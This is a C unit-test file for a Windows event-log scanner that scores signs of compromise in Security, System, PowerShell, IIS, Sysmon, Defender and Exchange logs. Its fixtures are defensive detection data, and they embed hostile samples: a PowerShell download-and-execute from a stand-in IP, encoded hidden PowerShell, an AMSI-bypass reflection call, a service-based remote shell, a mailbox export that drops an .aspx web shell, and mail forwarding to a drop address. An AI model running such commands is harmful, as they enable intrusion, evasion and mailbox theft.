/* Unit tests: the host checks on every event log (Security, System, PowerShell, IIS, Sysmon, Defender families, Exchange cmdlets), grouping and template-less records. */
#include "events_helper.h"

#define LOGS "C:\\Windows\\System32\\winevt\\Logs\\"
#define SEC LOGS "Security.evtx"
#define SYS LOGS "System.evtx"
#define APP LOGS "Application.evtx"
#define MGMT LOGS "MSExchange Management.evtx"
#define PSOP LOGS "Microsoft-Windows-PowerShell%4Operational.evtx"
#define IISCFG LOGS "Microsoft-IIS-Configuration%4Operational.evtx"
#define SYSMON LOGS "Microsoft-Windows-Sysmon%4Operational.evtx"
#define DEF LOGS "Microsoft-Windows-Windows Defender%4Operational.evtx"

#define AUDIT "Microsoft-Windows-Security-Auditing|Security|"
#define SCM "Service Control Manager|System|7045|4|2024-05-01T10:00:00Z||"
#define PS "Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/" \
    "Operational|4104|5|2024-05-01T10:00:00Z||1|1|"
#define DEFP "Microsoft-Windows-Windows Defender|Microsoft-Windows-" \
    "Windows Defender/Operational|1116|3|2024-05-01T10:00:00Z||" \
    "4.18.2|{0F1D}|2024-05-01T10:00:00Z||2147735503|"
#define CMD "MSExchange CmdletLogs|MSExchange Management|1|4|" \
    "2024-05-01T10:00:00Z||"

/* How many findings of check one scan of spec gives. */
static size_t
hits(const char *winpath, const char *spec, const char *check)
{
	struct run r;
	size_t n;

	run_scan(&r, winpath, spec, NULL, -1);
	assert_int_equal(r.rc, EXH_OK);
	find_check(&r, check, &n);
	run_free(&r);
	return n;
}

/* The score of the one finding of check, -1 when there is none. */
static int
score_of(const char *winpath, const char *spec, const char *check)
{
	const struct exh_finding *f;
	struct run r;
	size_t n;
	int score = -1;

	run_scan(&r, winpath, spec, NULL, -1);
	assert_int_equal(r.rc, EXH_OK);
	if ((f = find_check(&r, check, &n)) != NULL) {
		assert_int_equal(n, 1);
		score = f->score;
	}
	run_free(&r);
	return score;
}

static void
security_log_cleared_is_a_warning_and_system_104_too(void **state)
{
	(void)state;
	assert_int_equal(score_of(SEC, "Microsoft-Windows-Eventlog|Security|"
	    "1102|4|2024-05-01T10:00:00Z||S-1-5-21-1-2-3-500|Administrator",
	    "security/log-cleared"), 70);
	assert_int_equal(score_of(SYS, "Microsoft-Windows-Eventlog|System|104|"
	    "4|2024-05-01T10:00:00Z||Administrator|CORP|Application",
	    "system/log-cleared"), 65);
	/* 1102 in the System log is another event: no finding. */
	assert_int_equal(hits(SYS, "Microsoft-Windows-Eventlog|System|1102|4|"
	    "2024-05-01T10:00:00Z||x", "security/log-cleared"), 0);
}

static void
archived_security_log_is_checked_like_the_live_one(void **state)
{
	(void)state;
	assert_int_equal(hits(LOGS "Archive-Security-2024-05-01-10-00-00-"
	    "123.evtx", "Microsoft-Windows-Eventlog|Security|1102|4|"
	    "2024-05-01T10:00:00Z||S-1-5-18", "security/log-cleared"), 1);
}

static void
new_user_and_admin_group_additions_are_flagged(void **state)
{
	(void)state;
	assert_int_equal(score_of(SEC, AUDIT "4720|4|2024-05-01T10:00:00Z||"
	    "svc_backup|CORP|S-1-5-21-1-2-3-1601", "security/user-created"),
	    50);
	assert_int_equal(score_of(SEC, AUDIT "4732|4|2024-05-01T10:00:00Z||"
	    "-|S-1-5-21-1-2-3-1601|Administrators|Builtin|S-1-5-32-544",
	    "security/added-to-administrators"), 70);
	/* The group's name is localized; its SID is not. */
	assert_int_equal(hits(SEC, AUDIT "4732|4|2024-05-01T10:00:00Z||"
	    "-|S-1-5-21-1-2-3-1601|Administrateurs|Builtin|S-1-5-32-544",
	    "security/added-to-administrators"), 1);
	assert_int_equal(hits(SEC, AUDIT "4732|4|2024-05-01T10:00:00Z||"
	    "-|S-1-5-21-1-2-3-1601|Users|Builtin|S-1-5-32-545",
	    "security/added-to-administrators"), 0);
	assert_int_equal(hits(SEC, AUDIT "4732|4|2024-05-01T10:00:00Z||"
	    "-|S-1-5-21-1-2-3-1601|Remote Desktop Users|Builtin|S-1-5-32-555",
	    "security/added-to-local-privileged"), 1);
	assert_int_equal(score_of(SEC, AUDIT "4728|4|2024-05-01T10:00:00Z||"
	    "CN=x|S-1-5-21-1-2-3-1601|Domain Admins|CORP|S-1-5-21-1-2-3-512",
	    "security/added-to-privileged-group"), 75);
	assert_int_equal(hits(SEC, AUDIT "4756|4|2024-05-01T10:00:00Z||"
	    "CN=x|S-1-5-21-1-2-3-1601|Exchange Windows Permissions|CORP|"
	    "S-1-5-21-1-2-3-1117", "security/added-to-privileged-group"), 1);
	/* A user RID ending in 512 is not the Domain Admins group. */
	assert_int_equal(hits(SEC, AUDIT "4728|4|2024-05-01T10:00:00Z||"
	    "CN=x|S-1-5-21-1-2-3-1601|Sales|CORP|S-1-5-21-1-2-3-10512",
	    "security/added-to-privileged-group"), 0);
}

static void
service_installs_running_shells_or_rmm_tools_are_flagged(void **state)
{
	(void)state;
	assert_int_equal(score_of(SYS, SCM "BTOBTO|%COMSPEC% /Q /c echo whoami "
	    "^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat|user "
	    "mode service|demand start|LocalSystem", "system/service-shell"),
	    75);
	assert_int_equal(hits(SYS, SCM "upd|powershell -nop -w hidden -enc "
	    "SQBFAFgA|user mode service|auto start|LocalSystem",
	    "system/service-shell"), 1);
	assert_int_equal(score_of(SYS, SCM "AnyDesk Service|\"C:\\Program Files "
	    "(x86)\\AnyDesk\\AnyDesk.exe\" --service|user mode service|auto "
	    "start|LocalSystem", "system/service-rmm"), 60);
	/* An ordinary driver or service install is not flagged. */
	assert_int_equal(hits(SYS, SCM "MSExchangeMitigation|\"C:\\Program "
	    "Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMitigation"
	    ".exe\"|user mode service|auto start|LocalSystem",
	    "system/service-shell"), 0);
	assert_int_equal(hits(SYS, SCM "MSExchangeMitigation|C:\\x.exe|user "
	    "mode service|auto start|LocalSystem", "system/service-rmm"), 0);
}

static void
script_blocks_with_download_encoding_or_reflection_are_flagged(void **state)
{
	(void)state;
	assert_int_equal(score_of(PSOP, PS "IEX (New-Object Net.WebClient)."
	    "DownloadString('http://203.0.113.7/a.ps1')|{guid}|",
	    "powershell/scriptblock-download"), 75);
	assert_int_equal(score_of(PSOP, PS "$s=[Convert]::FromBase64String($b);"
	    "$d=New-Object IO.Compression.GzipStream($m,0)|{guid}|",
	    "powershell/scriptblock-encoded"), 70);
	assert_int_equal(score_of(PSOP, PS "[Ref].Assembly.GetType('System."
	    "Management.Automation.AmsiUtils')|{guid}|",
	    "powershell/scriptblock-reflection"), 75);
	/* A download without running it, and plain admin scripts: quiet. */
	assert_int_equal(hits(PSOP, PS "Invoke-WebRequest -Uri https://"
	    "example.com/x.zip -OutFile x.zip|{guid}|",
	    "powershell/scriptblock-download"), 0);
	assert_int_equal(hits(PSOP, PS "Get-Mailbox -ResultSize 10|{guid}|",
	    "powershell/scriptblock-encoded"), 0);
}

static void
iis_module_added_is_flagged_and_other_config_changes_are_not(void **state)
{
	const char *p = "Microsoft-IIS-Configuration|Microsoft-IIS-"
	    "Configuration/Operational|29|4|2024-05-01T10:00:00Z||";
	char spec[512];

	(void)state;
	snprintf(spec, sizeof(spec), "%sMACHINE/WEBROOT/APPHOST|/system."
	    "webServer/globalModules/add[@name='IsapiCache']|CORP\\admin|"
	    "ADD", p);
	assert_int_equal(score_of(IISCFG, spec, "iis/module-added"), 70);
	snprintf(spec, sizeof(spec), "%sMACHINE/WEBROOT/APPHOST/Default Web "
	    "Site|/system.webServer/modules/add[@name='Owa']|CORP\\admin|ADD",
	    p);
	assert_int_equal(hits(IISCFG, spec, "iis/module-added"), 1);
	snprintf(spec, sizeof(spec), "%sMACHINE/WEBROOT/APPHOST|/system."
	    "webServer/defaultDocument/files/add[@value='x.htm']|"
	    "CORP\\admin|ADD", p);
	assert_int_equal(hits(IISCFG, spec, "iis/module-added"), 0);
}

static void
exchange_mitigation_service_events_are_notices(void **state)
{
	(void)state;
	assert_int_equal(score_of(APP, "MSExchange Mitigation Service|"
	    "Application|1006|4|2024-05-01T10:00:00Z||M1.1", 
	    "exchange/eems-mitigation"), 40);
	assert_int_equal(score_of(APP, "MSExchange Mitigation Service|"
	    "Application|1008|2|2026-07-01T10:00:00Z||The leaf certificate "
	    "is from unknown issuer or has EKU mismatch",
	    "exchange/eems-error"), 50);
	assert_int_equal(hits(APP, "MSExchange Mitigation Service|Application|"
	    "1001|4|2024-05-01T10:00:00Z||started", "exchange/eems-mitigation"),
	    0);
}

static void
defender_threat_families_get_their_own_scores(void **state)
{
	(void)state;
	assert_int_equal(score_of(DEF, DEFP "Backdoor:ASP/Rshell.A|5|Severe"
	    "|C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx",
	    "defender/script-backdoor"), 85);
	assert_int_equal(hits(DEF, DEFP "Backdoor:PHP/Remoteshell.V|5|Severe|"
	    "C:\\x.php", "defender/script-backdoor"), 1);
	/* A web-shell name is one finding, from the Exchange family check. */
	assert_int_equal(hits(DEF, DEFP "Trojan:Script/WebShell.B|5|Severe|"
	    "C:\\x.aspx", "defender/script-backdoor"), 0);
	assert_int_equal(hits(DEF, DEFP "Trojan:Script/WebShell.B|5|Severe|"
	    "C:\\x.aspx", "defender/exchange-family"), 1);
	/* Names of Exchange families stay with defender/exchange-family. */
	assert_int_equal(hits(DEF, DEFP "Backdoor:ASP/Chopper.F!dha|5|Severe|"
	    "C:\\x.aspx", "defender/script-backdoor"), 0);
	assert_int_equal(hits(DEF, DEFP "Backdoor:ASP/Chopper.F!dha|5|Severe|"
	    "C:\\x.aspx", "defender/exchange-family"), 1);
	assert_int_equal(score_of(DEF, DEFP "HackTool:Win32/Mimikatz.D|5|High|"
	    "C:\\ProgramData\\m.exe", "defender/hacktool-mimikatz"), 85);
	assert_int_equal(hits(DEF, DEFP "HackTool:Win32/Mimikatz.D|5|High|"
	    "C:\\ProgramData\\m.exe", "defender/hacktool"), 0);
	/* Defender also names Mimikatz builds "Mikatz". */
	assert_int_equal(hits(DEF, DEFP "HackTool:Win64/Mikatz!dha|5|High|"
	    "C:\\ProgramData\\m64.exe", "defender/hacktool-mimikatz"), 1);
	assert_int_equal(hits(DEF, DEFP "HackTool:Win64/Mikatz!dha|5|High|"
	    "C:\\ProgramData\\m64.exe", "defender/hacktool"), 0);
	assert_int_equal(score_of(DEF, DEFP "HackTool:Win64/Chisel.A|5|High|"
	    "C:\\ProgramData\\c.exe", "defender/hacktool"), 60);
	assert_int_equal(score_of(DEF, DEFP "Exploit:Win32/CVE-2021-1732|5|"
	    "Severe|C:\\x.exe", "defender/exploit"), 70);
	assert_int_equal(score_of(DEF, DEFP "Ransom:Win64/LockBit.A|5|Severe|"
	    "C:\\x.exe", "defender/ransom"), 90);
	assert_int_equal(hits(DEF, DEFP "PUA:Win32/Presenoker|1|Low|C:\\x.exe",
	    "defender/hacktool"), 0);
}

static void
exchange_permission_and_agent_cmdlets_are_flagged(void **state)
{
	(void)state;
	assert_int_equal(score_of(MGMT, CMD "Install-TransportAgent|{Name=Sec, "
	    "TransportAgentFactory=Sec.Factory, AssemblyPath=C:\\Windows\\"
	    "Temp\\s.dll}", "exchange/transport-agent"), 70);
	assert_int_equal(score_of(MGMT, CMD "Add-MailboxPermission|{Identity="
	    "ceo, User=svc_x, AccessRights=FullAccess}",
	    "exchange/mailbox-fullaccess"), 55);
	assert_int_equal(hits(MGMT, CMD "Add-MailboxPermission|{Identity=ceo, "
	    "User=assistant, AccessRights=ReadPermission}",
	    "exchange/mailbox-fullaccess"), 0);
	assert_int_equal(score_of(MGMT, CMD "Add-ADPermission|{Identity=EXCH01"
	    ", User=svc_x, ExtendedRights=ms-Exch-EPI-Token-Serialization}",
	    "exchange/adpermission-grant"), 60);
	assert_int_equal(hits(MGMT, CMD "Add-ADPermission|{Identity=CN=Srv, "
	    "User=svc_x, AccessRights=GenericAll}",
	    "exchange/adpermission-grant"), 1);
	assert_int_equal(score_of(MGMT, CMD "New-ManagementRoleAssignment|{"
	    "Role=Organization Client Access, User=svc_x}",
	    "exchange/role-assignment"), 45);
	/* The Import Export role is ProxyShell's, reported once there. */
	assert_int_equal(hits(MGMT, CMD "New-ManagementRoleAssignment|{Role="
	    "Mailbox Import Export, User=administrator}",
	    "exchange/role-assignment"), 0);
	assert_int_equal(score_of(MGMT, CMD "New-MailboxExportRequest|{Mailbox"
	    "=ceo, FilePath=\\\\fs01\\share\\ceo.pst}",
	    "exchange/mailbox-export"), 45);
	assert_int_equal(hits(MGMT, CMD "New-MailboxExportRequest|{Mailbox=x, "
	    "FilePath=\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\"
	    "s.aspx}", "exchange/mailbox-export"), 0);
}

static void
web_worker_starting_a_shell_is_an_alert(void **state)
{
	(void)state;
	assert_int_equal(score_of(SYSMON, "Microsoft-Windows-Sysmon|Microsoft-"
	    "Windows-Sysmon/Operational|1|4|2024-05-01T10:00:00Z||-|"
	    "2024-05-01 10:00:00.000|{g}|4242|C:\\Windows\\System32\\cmd.exe|"
	    "cmd /c whoami|C:\\Windows\\System32\\inetsrv\\w3wp.exe",
	    "process/web-worker-spawns-shell"), 80);
	assert_int_equal(hits(SEC, AUDIT "4688|4|2024-05-01T10:00:00Z||"
	    "S-1-5-18|EXCH01$|0x3e7|0x1f0|C:\\Windows\\System32\\"
	    "WindowsPowerShell\\v1.0\\powershell.exe|%%1936|0x2a0|"
	    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
	    "UMWorkerProcess.exe", "process/web-worker-spawns-shell-4688"), 1);
	/* w3wp itself started by the service host: quiet. */
	assert_int_equal(hits(SYSMON, "Microsoft-Windows-Sysmon|Microsoft-"
	    "Windows-Sysmon/Operational|1|4|2024-05-01T10:00:00Z||-|x|{g}|1|"
	    "c:\\windows\\system32\\inetsrv\\w3wp.exe|w3wp -ap x|"
	    "C:\\Windows\\System32\\svchost.exe",
	    "process/web-worker-spawns-shell"), 0);
}

static void
unknown_channel_is_read_and_counted_without_findings(void **state)
{
	struct run r;

	(void)state;
	run_scan(&r, LOGS "Contoso-Widget%4Operational.evtx", "Contoso-Widget|"
	    "Contoso-Widget/Operational|1102|4|2024-05-01T10:00:00Z||x\n"
	    "Contoso-Widget|Contoso-Widget/Operational|7045|4|"
	    "2024-05-01T10:00:01Z||cmd.exe", NULL, -1);
	assert_int_equal(r.rc, EXH_OK);
	assert_int_equal(r.st.records, 2);
	assert_int_equal(exh_findings_count(r.out), 0);
	run_free(&r);
}

static void
the_same_event_25_times_is_one_finding_with_a_count(void **state)
{
	struct exh_buf spec = { 0 };
	const struct exh_finding *f;
	struct run r;
	size_t i, n;

	(void)state;
	for (i = 1; i <= 25; i++)
		assert_int_equal(exh_buf_printf(&spec, "%sMicrosoft-Windows-"
		    "Eventlog|Security|1102|4|2024-05-01T10:%02zu:00Z|%zu|x",
		    i > 1 ? "\n" : "", i, 100 + i), EXH_OK);
	run_scan(&r, SEC, spec.data, NULL, -1);
	exh_buf_free(&spec);
	assert_int_equal(r.rc, EXH_OK);
	f = find_check(&r, "security/log-cleared", &n);
	assert_non_null(f);
	assert_int_equal(n, 1);
	assert_int_equal(f->count, 25);
	assert_int_equal(r.st.grouped, 24);
	run_free(&r);
}

static void
twenty_five_different_events_are_20_findings_and_one_other(void **state)
{
	struct exh_buf spec = { 0 };
	const struct exh_finding *f;
	struct run r;
	size_t i, n, counted = 0;

	(void)state;
	for (i = 1; i <= 25; i++)
		assert_int_equal(exh_buf_printf(&spec, "%sMicrosoft-Windows-"
		    "Eventlog|Security|1102|4|2024-05-01T10:%02zu:00Z|%zu|u%zu",
		    i > 1 ? "\n" : "", i, 100 + i, i), EXH_OK);
	run_scan(&r, SEC, spec.data, NULL, -1);
	exh_buf_free(&spec);
	assert_int_equal(r.rc, EXH_OK);
	f = find_check(&r, "security/log-cleared", &n);
	assert_non_null(f);
	assert_int_equal(n, EXH_EVENTS_PER_CHECK_MAX + 1);
	for (i = 0; i < exh_findings_count(r.out); i++) {
		f = exh_findings_get(r.out, i);
		if (strcmp(f->check, "security/log-cleared") == 0)
			counted += f->count > 1 ? f->count : 1;
	}
	assert_int_equal(counted, 25);
	run_free(&r);
}

static bool
libevtx_reads_templateless(void)
{
	return strcmp(exh_events_libevtx_version(), "20240504") >= 0;
}

static void
templateless_records_are_read_or_each_lost_once_with_the_reason(void **state)
{
	const char *spec = DEFP "Backdoor:ASP/Rshell.A|5|Severe|C:\\x.aspx\n"
	    "MSExchange CmdletLogs|MSExchange Management|1|4|"
	    "2024-05-01T10:01:00Z||Set-Mailbox|-Identity \"ceo\" "
	    "-ForwardingSmtpAddress \"smtp:drop@example.net\"";
	const struct exh_skip *s;
	struct run r;
	size_t n;

	(void)state;
	run_scan_shaped(&r, DEF, spec, NULL, -1, 1);
	assert_int_equal(r.rc, EXH_OK);
	if (libevtx_reads_templateless()) {
		assert_int_equal(r.st.records, 2);
		assert_int_equal(r.st.lost, 0);
		find_check(&r, "defender/script-backdoor", &n);
		assert_int_equal(n, 1);
		assert_int_equal(exh_findings_skip_count(r.out), 0);
	} else {
		/* libevtx before 20240504: both records lost, each named once
		 * with its place and the library's whole reason. */
		print_message("libevtx %s cannot read template-less records; "
		    "checking the notes instead\n",
		    exh_events_libevtx_version());
		assert_int_equal(r.st.records, 0);
		assert_int_equal(r.st.lost, 2);
		assert_int_equal(exh_findings_skip_count(r.out), 2);
		s = find_skip(&r, "record 1, chunk 0, offset 0x200 in the chunk "
		    "(0x1200 in the file)");
		assert_non_null(s);
		assert_non_null(strstr(s->detail, "unsupported type: 0x05"));
		assert_non_null(find_skip(&r, "record 2, chunk 0"));
	}
	run_free(&r);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(
		    security_log_cleared_is_a_warning_and_system_104_too),
		cmocka_unit_test(
		    archived_security_log_is_checked_like_the_live_one),
		cmocka_unit_test(new_user_and_admin_group_additions_are_flagged),
		cmocka_unit_test(
		    service_installs_running_shells_or_rmm_tools_are_flagged),
		cmocka_unit_test(
		    script_blocks_with_download_encoding_or_reflection_are_flagged),
		cmocka_unit_test(
		    iis_module_added_is_flagged_and_other_config_changes_are_not),
		cmocka_unit_test(exchange_mitigation_service_events_are_notices),
		cmocka_unit_test(defender_threat_families_get_their_own_scores),
		cmocka_unit_test(
		    exchange_permission_and_agent_cmdlets_are_flagged),
		cmocka_unit_test(web_worker_starting_a_shell_is_an_alert),
		cmocka_unit_test(
		    unknown_channel_is_read_and_counted_without_findings),
		cmocka_unit_test(
		    the_same_event_25_times_is_one_finding_with_a_count),
		cmocka_unit_test(
		    twenty_five_different_events_are_20_findings_and_one_other),
		cmocka_unit_test(
		    templateless_records_are_read_or_each_lost_once_with_the_reason),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
